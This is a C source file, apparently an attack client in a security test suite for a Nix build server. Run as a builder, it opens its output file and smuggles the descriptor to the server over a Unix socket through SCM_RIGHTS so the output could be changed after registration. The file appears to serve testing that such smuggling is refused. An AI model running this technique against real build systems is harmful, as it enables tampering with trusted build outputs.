/*
 * A client, run as a derivation's builder: opens its output for writing and sends the descriptor to
 * the server, before and inside of a request (FD1). Whoever got it could change the output after
 * Nix has registered it.
 *
 *   usage: smuggle SOCKET     the path of the output is in $out
 */
#include "attack.h"

#include <fcntl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static int connect_to(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0) {
		perror(path);
		exit(1);
	}
	return fd;
}

/* Send text with n copies of a descriptor; 0 or the errno. */
static int send_with(int conn_fd, const char *text, int fd, int n)
{
	union {
		struct cmsghdr head;
		char room[CMSG_SPACE(64 * sizeof(int))];
	} control;
	struct iovec part = { (void *)text, strlen(text) };
	struct msghdr message = { .msg_iov = &part,
		                  .msg_iovlen = 1,
		                  .msg_control = &control,
		                  .msg_controllen = CMSG_SPACE((size_t)n * sizeof(int)) };
	struct cmsghdr *head;

	memset(&control, 0, sizeof(control));
	head = CMSG_FIRSTHDR(&message);
	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN((size_t)n * sizeof(int));
	for (int i = 0; i < n; i++)
		memcpy(CMSG_DATA(head) + (size_t)i * sizeof(int), &fd, sizeof(int));
	return sendmsg(conn_fd, &message, MSG_NOSIGNAL) < 0 ? errno : 0;
}

/* Wait until the server has said something: it has locked the socket by then. */
static void await_words(int conn_fd)
{
	char byte;

	if (recv(conn_fd, &byte, 1, MSG_PEEK) != 1) {
		puts("FAIL smuggle: the server says nothing");
		exit(1);
	}
}

int main(int argc, char **argv)
{
	const char *out = getenv("out");
	int fd, early, later, conn_fd;

	if (argc != 2 || !out)
		return 2;
	fd = open(out, O_RDWR | O_CREAT | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, "good\n", 5) != 5)
		return 3;
	conn_fd = connect_to(argv[1]);
	await_words(conn_fd);
	early = send_with(conn_fd, "{\"type\":\"request\",\"version\":1,", fd, 60);
	later = send_with(conn_fd, "\"builder\":\"receiver\"}\n", fd, 1);
	printf("smuggled: %s, %s\n", early ? strerror(early) : "sent",
	       later ? strerror(later) : "sent");
	if (early == 0) {
		/* It went through: hold the line while the test looks at the server. */
		char bytes[4096];
		ssize_t n;

		while ((n = recv(conn_fd, bytes, sizeof(bytes), 0)) > 0)
			if (memmem(bytes, (size_t)n, "\"exit\"", 6))
				break;
	}
	return 0;
}
